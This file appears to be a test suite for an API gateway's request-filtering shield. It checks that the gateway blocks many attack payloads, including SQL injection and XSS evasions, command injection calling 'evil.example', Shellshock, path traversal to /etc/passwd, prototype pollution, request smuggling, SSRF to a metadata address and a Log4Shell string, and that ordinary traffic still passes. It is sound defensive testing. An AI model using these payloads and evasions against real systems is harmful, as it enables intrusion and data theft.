import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { rawRequest } from "../helpers/raw-http.js";
import { startTestGateway, tenantWithKey, type TestGateway } from "../helpers/gateway.js";

describe("the shield", () => {
  let gw: TestGateway;
  let key: string;
  before(async () => {
    gw = await startTestGateway({
      version: 1,
      routes: [
        {
          name: "guarded",
          match: { path: "/guarded/**" },
          shield: { maxBodyBytes: 2_048, maxJsonDepth: 4, maxJsonKeys: 20, maxFieldLength: 100, words: { fields: ["text"], min: 2, max: 10 }, maxUrlLength: 300, maxHeaderBytes: 4_096 },
        },
        { name: "watched", match: { path: "/watched/**" }, shield: { mode: "monitor" } },
        { name: "partly", match: { path: "/partly/**" }, shield: { checks: { sqli: "off", phoneNumbers: "monitor" } } },
        { name: "plain", match: { path: "/plain/**" }, shield: {} },
        {
          name: "tuned",
          match: { path: "/tuned/**" },
          shield: { paranoia: 2, thresholds: { xss: 10 }, except: ["body.html", { field: "body.items[*].query", checks: ["sqli"] }] },
        },
        { name: "fetching", match: { path: "/fetching/**" }, shield: { checks: { ssrf: "block" } } },
      ],
    });
    key = (await tenantWithKey(gw)).key;
  });
  after(() => gw.close());

  const send = async (path: string, body?: string | Buffer, contentType = "application/json", headers: Record<string, string> = {}) => {
    const response = await fetch(`${gw.url}${path}`, {
      method: body === undefined ? "GET" : "POST",
      headers: { authorization: `Bearer ${key}`, ...(body === undefined ? {} : { "content-type": contentType }), ...headers },
      ...(body === undefined ? {} : { body }),
    });
    const text = await response.text();
    return { status: response.status, body: (text.startsWith("{") ? JSON.parse(text) : {}) as Record<string, unknown> };
  };

  test("attacks are refused in the query, the path, headers and JSON and form bodies, through the usual evasions", async () => {
    const attacks: [string, string | undefined, string?][] = [
      ["/guarded/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", undefined],
      ["/guarded/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", undefined],
      ["/guarded/x", JSON.stringify({ comment: "<img src=x onerror=alert(1)>" })],
      // Long attributes before the handler: a bounded look-ahead would stop short of it.
      ["/partly/x", JSON.stringify({ comment: `<img alt="${"a ".repeat(200)}" onerror=fetch('//evil.example')>` })],
      // A `>` inside a quoted value does not end the tag for a browser.
      ["/guarded/x", JSON.stringify({ comment: `<img title=">" src=x onerror=fetch(1)>` })],
      // ...nor do quotes that hold a `<` or are never closed hide the handler.
      ["/guarded/x", JSON.stringify({ comment: `<img title="<b" src=x onerror=fetch(1)>` })],
      ["/guarded/x", JSON.stringify({ comment: `<img title="a < b" src=x onerror=fetch(1)>` })],
      ["/guarded/x", JSON.stringify({ comment: "&#60;script&#62;alert(1)&#60;/script&#62;" })],
      ["/guarded/x", JSON.stringify({ comment: "\\u003cscript\\u003ealert(1)" })],
      ["/guarded/x", JSON.stringify({ name: "＜script＞alert(1)＜/script＞" })],
      ["/guarded/x", JSON.stringify({ id: "1 UN/**/ION SE/**/LECT 1,2" })],
      ["/guarded/x", JSON.stringify({ nested: { list: ["ok", "; cat /etc/passwd"] } })],
      ["/guarded/x", JSON.stringify({ "<script>alert(1)</script>": "a key is a field too" })],
      ["/guarded/x", "file=..%2F..%2Fetc%2Fpasswd", "application/x-www-form-urlencoded"],
      ["/guarded/x", "$(curl -s evil.example)", "text/plain"],
      ["/guarded/x", "`/usr/bin/curl -s evil.example`", "text/plain"],
      ["/guarded/x", JSON.stringify({ id: "1 /*!50000UNION*/ /*!50000SELECT*/ password FROM users" })],
      ["/guarded/x", JSON.stringify({ host: "example.org; c''at /etc/host''name" })],
      ["/guarded/x", JSON.stringify({ host: "$(c\\url -s evil.example)" })],
      ["/guarded/x", JSON.stringify({ file: "..;/..;/manager/html" })],
      ["/guarded/x", JSON.stringify({ id: "1)) or ((1=1" })],
      ["/guarded/x", JSON.stringify({ title: '" onmouseover=fetch(1) x="' })],
      ["/guarded/x", JSON.stringify({ page: "php://filter/convert.base64-encode/resource=index.php" })],
      ["/guarded/x", JSON.stringify({ host: "example.org & whoami" })],
      ["/guarded/x", JSON.stringify({ host: "x; /???/??t /???/p??s??" })],
      ["/guarded/search?host=example.org%20%26%26%20/usr/bin/id", undefined],
    ];
    for (const [path, body, type] of attacks) {
      const answer = await send(path, body, type);
      assert.equal(answer.status, 400, `${path} ${body}`);
      assert.equal(answer.body.code, "MALICIOUS_INPUT", `${path} ${body}`);
      assert.ok(typeof answer.body.class === "string" && typeof answer.body.field === "string");
    }
    const header = await send("/guarded/x", undefined, undefined, { "user-agent": "() { :; }; /bin/bash -c 'id'" });
    assert.equal(header.body.field, "header.user-agent");
    assert.equal(header.body.class, "cmdi");
    // The Host header reaches the upstream as X-Forwarded-Host, which applications put into links.
    const host = await rawRequest(gw.url, `GET /guarded/x HTTP/1.1\r\nHost: a.example"><script>alert(1)</script>\r\nAuthorization: Bearer ${key}\r\nConnection: close\r\n\r\n`);
    assert.equal(host.status, 400);
    assert.match(host.text, /"field":"header.host"/);
    const finding = gw.logs.find((line) => line.includes("shield refused a request") && line.includes("xss-event-handler"));
    assert.ok(finding, "the log names the rule, the field and the class");
    assert.match(finding, /"field":"body.comment"/);
  });

  test("cookies are inspected pair by pair: a second pair of the same name, quotes and names hide nothing", async () => {
    const cookies: [string, string][] = [
      ["session=abc123; lang=en' OR '1'='1", "cookie.lang"],
      ["id=1; id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "cookie.id"],
      ['pref="<script>alert(1)</script>"', "cookie.pref"],
      ["a=1; <script>alert(1)</script>=x", "cookie.<script>alert(1)</script>"],
      ["path=..%252F..%252Fetc%252Fpasswd", "cookie.path"],
    ];
    for (const [cookie, field] of cookies) {
      const answer = await send("/guarded/x", undefined, undefined, { cookie });
      assert.equal(answer.status, 400, cookie);
      assert.equal(answer.body.code, "MALICIOUS_INPUT", cookie);
      assert.equal(answer.body.field, field, cookie);
    }
    // Two Cookie headers: Node joins them, and the second is inspected as much as the first.
    const twice = await rawRequest(gw.url, `GET /guarded/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nCookie: a=1\r\nCookie: b=<script>alert(1)</script>\r\nConnection: close\r\n\r\n`);
    assert.equal(twice.status, 400);
    assert.match(twice.text, /MALICIOUS_INPUT/);
    const logged = gw.logs.find((line) => line.includes('"field":"cookie.lang"'));
    assert.ok(logged, "the finding names the cookie");
    assert.ok(!logged.includes("1'='1"), "never its value");
  });

  test("multipart bodies are read field by field: a binary part hides nothing, ambiguous parts are refused", async () => {
    const boundary = "----portcullis-test";
    const multipart = (...parts: (string | Buffer)[]) =>
      Buffer.concat([...parts.flatMap((part) => [Buffer.from(`--${boundary}\r\n`), Buffer.from(part), Buffer.from("\r\n")]), Buffer.from(`--${boundary}--\r\n`)]);
    const file = Buffer.concat([Buffer.from('Content-Disposition: form-data; name="upload"; filename="photo.png"\r\nContent-Type: image/png\r\n\r\n'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0xff, 0xfe, 0x00, 0xc0])]);
    const field = (name: string, value: string | Buffer, headers = "") => Buffer.concat([Buffer.from(`Content-Disposition: form-data; name="${name}"\r\n${headers}\r\n`), Buffer.from(value)]);
    const type = `multipart/form-data; boundary=${boundary}`;
    const post = (body: Buffer) => send("/guarded/upload", body, type);

    const cases: [Buffer, string, string][] = [
      [multipart(file, field("comment", "1' UNION SELECT password FROM users--")), "MALICIOUS_INPUT", "body.comment"],
      [multipart(field("upload", "x").toString().replace('name="upload"', 'name="upload"; filename="../../etc/passwd"')), "MALICIOUS_INPUT", "body.upload.filename"],
      [multipart(field("<script>alert(1)</script>", "x")), "MALICIOUS_INPUT", "body.<script>alert(1)</script>"],
      // PHP reads only `filename`, undici and browsers prefer `filename*`: both are inspected, in either order.
      [multipart(field("upload", "x").toString().replace('name="upload"', `name="upload"; filename="../../../../etc/passwd"; filename*=UTF-8''ok.txt`)), "MALICIOUS_INPUT", "body.upload.filename"],
      [multipart(field("upload", "x").toString().replace('name="upload"', `name="upload"; filename*=UTF-8''%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd; filename="ok.txt"`)), "MALICIOUS_INPUT", "body.upload.filename"],
      [multipart(field("q", "=27 OR 1=3D1", "Content-Transfer-Encoding: quoted-printable\r\n")), "INVALID_ENCODING", "body"],
      [multipart(field("q", "+ADw-script+AD4-alert(1)", "Content-Type: text/plain; charset=utf-7\r\n")), "INVALID_ENCODING", "body"],
      [multipart(field("q", Buffer.from([0x27, 0xc0, 0xa7]))), "INVALID_ENCODING", "body.q"],
      [Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="q"\r\n\r\nno closing boundary`), "INVALID_ENCODING", "body"],
    ];
    for (const [body, code, field] of cases) {
      const answer = await post(body);
      assert.equal(answer.body.code, code, body.toString("latin1"));
      assert.equal(answer.body.field, field, body.toString("latin1"));
    }

    // Two Content-Types: Node reads the first (binary, not inspected), an upstream may parse the second.
    const smuggled = multipart(file, field("comment", "1' UNION SELECT password FROM users--"));
    const host = new URL(gw.url).host;
    const twoTypes = await rawRequest(
      gw.url,
      `POST /guarded/upload HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/octet-stream\r\nContent-Type: ${type}\r\nContent-Length: ${smuggled.length}\r\nConnection: close\r\n\r\n${smuggled.toString("latin1")}`,
    );
    assert.equal(twoTypes.status, 400);
    assert.match(twoTypes.text, /INVALID_ENCODING/);

    // A boundary the header check and undici's parser could read differently is refused.
    const oneField = multipart(field("q", "x"));
    for (const odd of ['"pt\\x"', `${boundary}; boundary=other`, 'pt; x="; boundary=other"']) {
      const answer = await send("/guarded/upload", oneField, `multipart/form-data; boundary=${odd}`);
      assert.equal(answer.body.code, "INVALID_ENCODING", odd);
    }

    const ordinary = multipart(file, field("title", "Holiday photos"), field("note", "Taken on 2026-07-01; see https://example.com"));
    const passed = await post(ordinary);
    assert.equal(passed.status, 200);
    assert.equal(passed.body.body_bytes, ordinary.length, "forwarded whole");
    // A browser's own boundary, which spells "Boundary" inside its value, is an ordinary one.
    const webkit = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
    const fromBrowser = Buffer.from(`--${webkit}\r\nContent-Disposition: form-data; name="title"\r\n\r\nHoliday\r\n--${webkit}--\r\n`);
    assert.equal((await send("/guarded/upload", fromBrowser, `multipart/form-data; boundary=${webkit}`)).status, 200);
  });

  test("a body declared in a charset that reads the same bytes differently is refused", async () => {
    const cases: [string, string | Buffer][] = [
      ["text/plain; charset=utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"],
      ["application/x-www-form-urlencoded; charset=UTF-7", "q=+ADw-script+AD4-alert(1)"],
      ['application/json; charset="utf-16le"', Buffer.from('{"q":"<script>alert(1)</script>"}', "utf16le")],
      // The shield would read the first charset, a parser that keeps the last one UTF-16.
      ["text/plain; charset=utf-8; charset=utf-16le", Buffer.from("<script>alert(1)</script>", "utf16le")],
    ];
    for (const [type, body] of cases) {
      const answer = await send("/guarded/x", body, type);
      assert.equal(answer.body.code, "INVALID_ENCODING", type);
    }
    for (const type of ["application/json; charset=utf-8", "application/json; charset=UTF-8", "text/plain;charset=us-ascii", "application/x-www-form-urlencoded; charset=iso-8859-1"]) {
      assert.equal((await send("/guarded/x", type.startsWith("application/json") ? '{"a":"b c"}' : "a=b c", type)).status, 200, type);
    }
  });

  test("a _method field in a form or multipart body is refused: the upstream would run another method than the route's", async () => {
    const form = await send("/guarded/x", "a=1&_method=DELETE", "application/x-www-form-urlencoded");
    assert.deepEqual([form.status, form.body.code, form.body.field], [400, "BAD_REQUEST", "body._method"]);
    const boundary = "----override";
    const multipart = `--${boundary}\r\nContent-Disposition: form-data; name="_METHOD"\r\n\r\nput\r\n--${boundary}--\r\n`;
    const parted = await send("/guarded/x", multipart, `multipart/form-data; boundary=${boundary}`);
    assert.deepEqual([parted.status, parted.body.code, parted.body.field], [400, "BAD_REQUEST", "body._METHOD"]);
    assert.equal((await send("/guarded/x", "payment_method=card", "application/x-www-form-urlencoded")).status, 200);
    // Spelt as PHP folds it, or behind a `;` that Rack splits on.
    for (const body of [".method=DELETE", "a=1&%5Bmethod=DELETE", "a=1;_method=DELETE", "_method[]=DELETE"]) {
      assert.equal((await send("/guarded/x", body, "application/x-www-form-urlencoded")).status, 400, body);
    }
    const dotted = `--${boundary}\r\nContent-Disposition: form-data; name=".method"\r\n\r\nput\r\n--${boundary}--\r\n`;
    assert.equal((await send("/guarded/x", dotted, `multipart/form-data; boundary=${boundary}`)).status, 400);
  });

  test("keys that would reach Object.prototype in a JavaScript upstream are refused", async () => {
    const attacks: [string, string | undefined, string, string?][] = [
      ["/guarded/x", '{"__proto__":{"isAdmin":true}}', "body.__proto__"],
      ["/guarded/x", '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}', "body.__proto__"],
      ["/guarded/x", JSON.stringify({ user: { constructor: { prototype: { isAdmin: true } } } }), "body.user.constructor.prototype"],
      ["/guarded/x?a[__proto__][admin]=1", undefined, "query.a[__proto__][admin]"],
      ["/guarded/x?constructor[prototype][admin]=1", undefined, "query.constructor[prototype][admin]"],
      ["/guarded/x", "__proto__.admin=1", "body.__proto__.admin", "application/x-www-form-urlencoded"],
    ];
    for (const [path, body, field, type] of attacks) {
      const answer = await send(path, body, type);
      assert.equal(answer.body.code, "MALICIOUS_INPUT", `${path} ${body}`);
      assert.equal(answer.body.class, "prototype_pollution", `${path} ${body}`);
      assert.equal(answer.body.field, field, `${path} ${body}`);
    }
    const benign = await send("/guarded/x?prototype=2", JSON.stringify({ car: { constructor: "Ford", prototype: "v2" }, prototype: true }));
    assert.equal(benign.status, 200, "the words alone are not an attack");
  });

  test("ordinary input passes untouched, and a read body reaches the upstream whole", async () => {
    const body = JSON.stringify({ name: "Mary-Jane O'Brien", text: "Please update my delivery address", note: "Tom & Jerry; a < b" });
    const answer = await send("/guarded/orders?q=select%20the%20best&sort=price", body);
    assert.equal(answer.status, 200);
    assert.equal(answer.body.body_bytes, Buffer.byteLength(body));
  });

  test("what browsers and HTTP clients ordinarily send is not mistaken for an attack", async () => {
    const browser = {
      "user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
      accept: "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
      "accept-language": "en-US,en;q=0.9,de;q=0.8",
      "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
      referer: "https://app.example.com/dashboard?tab=billing&range=30d",
      "if-none-match": 'W/"5e-1a2b3c"',
      traceparent: "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
      cookie:
        '_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJlLWJ5dGVz_-x; theme="dark"; ' +
        "OptanonConsent=isGDPRApplies=true&datestamp=Mon+Nov+30+2026&groups=C0001%3A1%2CC0002%3A0; cart=%5B%7B%22id%22%3A12%7D%5D",
    };
    assert.equal((await send("/guarded/orders?page=2&sort=-created_at&filter[status]=open", undefined, undefined, browser)).status, 200);
    for (const agent of ["curl/8.5.0", "python-requests/2.31.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0", "okhttp/4.12.0"]) {
      assert.equal((await send("/guarded/x", undefined, undefined, { "user-agent": agent })).status, 200, agent);
    }
  });

  test("structure and size limits: depth, keys, field length, words, URLs, phone numbers, body, headers, URL", async () => {
    const rejected = async (body: string, check: string) => {
      const answer = await send("/guarded/x", body);
      assert.equal(answer.status, 422, check);
      assert.equal(answer.body.code, "INPUT_REJECTED");
      assert.equal(answer.body.check, check);
    };
    await rejected(JSON.stringify({ a: { b: { c: { d: { e: 1 } } } } }), "jsonDepth");
    await rejected(JSON.stringify(Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`k${i}`, i]))), "jsonKeys");
    await rejected(JSON.stringify({ f: "x".repeat(101) }), "fieldLength");
    await rejected(JSON.stringify({ text: "one" }), "words");
    await rejected(JSON.stringify({ text: "a b c d e f g h i j k" }), "words");
    await rejected(JSON.stringify({ links: Array.from({ length: 6 }, (_, i) => `see https://e${i}.example`) }), "urls");
    await rejected(JSON.stringify({ f: "+1 415 555 0100, +1 415 555 0101, 020 7946 0958 and 0800 123 4567" }), "phoneNumbers");
    assert.equal((await send("/guarded/x", JSON.stringify({ f: "a".repeat(90), g: "b".repeat(90) }))).status, 200, "just inside the limits");
    assert.equal((await send("/guarded/x", JSON.stringify({ big: "y".repeat(3_000) }))).status, 413);
    assert.equal((await send(`/guarded/${"p".repeat(400)}`)).status, 414);
    assert.equal((await send("/guarded/x", undefined, undefined, { "x-padding": "z".repeat(5_000) })).status, 431);
  });

  test("bytes that are not UTF-8, or a body that is not the JSON it claims, are INVALID_ENCODING", async () => {
    const invalid = await send("/guarded/x", Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0x22, 0x7d]));
    assert.equal(invalid.body.code, "INVALID_ENCODING");
    assert.equal((await send("/guarded/x?q=%C3%28")).body.code, "INVALID_ENCODING");
    assert.equal((await send("/guarded/x", "{not json")).body.code, "INVALID_ENCODING");
    assert.equal((await send("/guarded/x", Buffer.from([0xff, 0xfe, 0x00]), "application/octet-stream")).status, 200, "binary bodies are not text");
  });

  test("a JSON key named twice is refused: the shield and the upstream could each read a different one", async () => {
    // JSON.parse keeps the last value, so the attack in the first would be seen by a first-wins upstream only.
    const smuggled = await send("/guarded/x", '{"comment":"<script>alert(1)</script>","comment":"fine"}');
    assert.equal(smuggled.status, 400);
    assert.equal(smuggled.body.code, "INVALID_ENCODING");
    assert.equal((await send("/guarded/x", '{"a":{"b":1,"b":2}}')).body.code, "INVALID_ENCODING", "nested, with number values");
    assert.equal((await send("/guarded/x", '{"a":"x","\\u0061":"y"}')).body.code, "INVALID_ENCODING", "an escaped spelling of the same name");
    const escapes = JSON.stringify({ quote: 'say "hi"', slash: "a\\b\"", list: ["x", "y", { k: "\u0000" }], "": "" });
    assert.equal((await send("/guarded/x", escapes)).status, 200, "escaped quotes and backslashes are not duplicates");
  });

  test("a body cannot dodge inspection by its label: mislabelled text is read, compressed bodies are refused", async () => {
    const attack = JSON.stringify({ comment: "<script>alert(1)</script>" });
    for (const type of ["application/octet-stream", "multipart/mixed", "image/png"]) {
      const answer = await send("/guarded/x", attack, type);
      assert.equal(answer.body.code, "MALICIOUS_INPUT", type);
      assert.equal(answer.body.field, "body.comment", type);
    }
    assert.equal((await send("/guarded/x", "id=1 UNION SELECT password FROM users", "application/octet-stream")).body.code, "MALICIOUS_INPUT");
    assert.equal((await send("/guarded/x", JSON.stringify({ ok: "fine" }), "application/octet-stream")).status, 200);
    const { gzipSync } = await import("node:zlib");
    const gzipped = await send("/guarded/x", gzipSync(attack), "application/json", { "content-encoding": "gzip" });
    assert.equal(gzipped.body.code, "INVALID_ENCODING", "the shield cannot read it, so it does not pass it");
    assert.equal((await send("/guarded/x", gzipSync(attack), "application/octet-stream", { "content-encoding": "gzip" })).body.code, "INVALID_ENCODING");
  });

  test("a chunked body over the limit is refused while it is read, not after", async () => {
    const answer = await rawRequest(
      gw.url,
      `POST /guarded/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n` +
        `800\r\n${"a".repeat(0x800)}\r\n800\r\n${"b".repeat(0x800)}\r\n0\r\n\r\n`,
    );
    assert.equal(answer.status, 413);
  });

  test("monitor mode logs what block mode would refuse; a check set off is not run", async () => {
    const watched = await send("/watched/x?q=%27%20OR%201%3D1--");
    assert.equal(watched.status, 200);
    assert.ok(gw.logs.some((line) => line.includes("shield findings (monitor)") && line.includes("sqli-")));
    assert.equal((await send("/partly/x?q=%27%20OR%201%3D1--")).status, 200, "sqli is off on this route");
    assert.equal((await send("/partly/x?q=%3Cscript%3E")).status, 400, "the other detectors still block");
    assert.equal((await send("/partly/x", JSON.stringify({ f: "+1 415 555 0100, +1 415 555 0101, 020 7946 0958, 0800 123 4567" }))).status, 200);
  });

  const post = (path: string, body: unknown) => send(path, JSON.stringify(body));

  test("an excluded field passes what it is excluded from, and nothing else", async () => {
    assert.equal((await post("/tuned/x", { html: "<script>alert(1)</script>" })).status, 200, "every class is off for body.html");
    assert.equal((await post("/tuned/x", { items: [{ query: "' OR '1'='1" }] })).status, 200, "sqli is off for body.items[*].query");
    const xss = await post("/tuned/x", { items: [{ query: "' OR 1=1 --", note: "<script>alert(1)</script>" }, { query: "<svg onload=alert(1)>" }, { query: "<script>alert(1)</script>" }] });
    assert.equal(xss.status, 400, "xss in the same field is still read");
    assert.equal(xss.body.class, "xss");
    assert.equal((await post("/plain/x", { html: "<script>alert(1)</script>" })).status, 400, "another route has no exclusion");
  });

  test("a class refuses at its threshold: under it, the finding is logged as below the threshold", async () => {
    assert.equal((await post("/tuned/x", { a: "<script>alert(1)</script>" })).status, 200);
    assert.ok(gw.logs.some((line) => line.includes("shield findings (monitor)") && line.includes('"mode":"below threshold"')));
    assert.equal((await post("/tuned/x", { a: "<script>alert(1)</script>", b: "<img src=x onerror=alert(1)>" })).status, 400, "two findings reach 10");
  });

  test("paranoia level 2 refuses what level 1 lets through", async () => {
    assert.equal((await post("/plain/x", { q: "select name from users" })).status, 200);
    assert.equal((await post("/tuned/x", { q: "select name from users" })).status, 400);
  });

  test("a URL to an internal host is reported by default, refused where the route says so", async () => {
    const body = { callback: "http://169.254.169.254/latest/meta-data/" };
    assert.equal((await post("/plain/x", body)).status, 200);
    assert.ok(gw.logs.some((line) => line.includes("ssrf-internal-url") && line.includes('"mode":"monitor"')));
    const refused = await post("/fetching/x", body);
    assert.equal(refused.status, 400);
    assert.equal(refused.body.class, "ssrf");
  });

  test("the newer classes are refused through the gateway as MALICIOUS_INPUT with their class", async () => {
    for (const [value, cls] of [
      ["${jndi:ldap://evil.example/a}", "java"],
      ["{{7*7}}", "ssti"],
      ["php://filter/resource=index.php", "inclusion"],
      ["*)(uid=*))(|(uid=*", "ldap"],
      ["x\r\nSet-Cookie: a=b", "crlf"],
    ] as const) {
      const answer = await post("/plain/x", { value });
      assert.equal(answer.status, 400, value);
      assert.equal(answer.body.class, cls, value);
    }
    const operator = await post("/plain/x", { password: { $ne: null } });
    assert.equal(operator.status, 400);
    assert.equal(operator.body.class, "nosql");
  });
});

test("oversized and over-limit requests count as violations, like attacks", async () => {
  const gw = await startTestGateway({
    version: 1,
    blocking: { threshold: 3, windowSeconds: 60, blockSeconds: 60 },
    routes: [{ name: "open", match: { path: "/**" }, authenticate: "none", shield: { maxBodyBytes: 64, maxFieldLength: 10 } }],
  });
  try {
    const post = (body: string) => fetch(`${gw.url}/x`, { method: "POST", headers: { "content-type": "application/json" }, body });
    assert.equal((await post(JSON.stringify({ a: "x".repeat(100) }))).status, 413);
    assert.equal((await post(JSON.stringify({ a: "x".repeat(20) }))).status, 422);
    assert.equal((await post(JSON.stringify({ a: "y".repeat(20) }))).status, 422);
    const blocked = await fetch(`${gw.url}/x?q=harmless`);
    assert.equal(((await blocked.json()) as { code: string }).code, "BLOCKED");
  } finally {
    await gw.close();
  }
});

test("a client that keeps sending attacks is blocked", async () => {
  const gw = await startTestGateway({
    version: 1,
    blocking: { threshold: 3, windowSeconds: 60, blockSeconds: 60 },
    routes: [{ name: "open", match: { path: "/**" }, authenticate: "none", shield: {} }],
  });
  try {
    for (let i = 0; i < 3; i++) assert.equal((await fetch(`${gw.url}/x?q=%3Cscript%3E`)).status, 400);
    const blocked = await fetch(`${gw.url}/x?q=harmless`);
    assert.equal(((await blocked.json()) as { code: string }).code, "BLOCKED");
  } finally {
    await gw.close();
  }
});
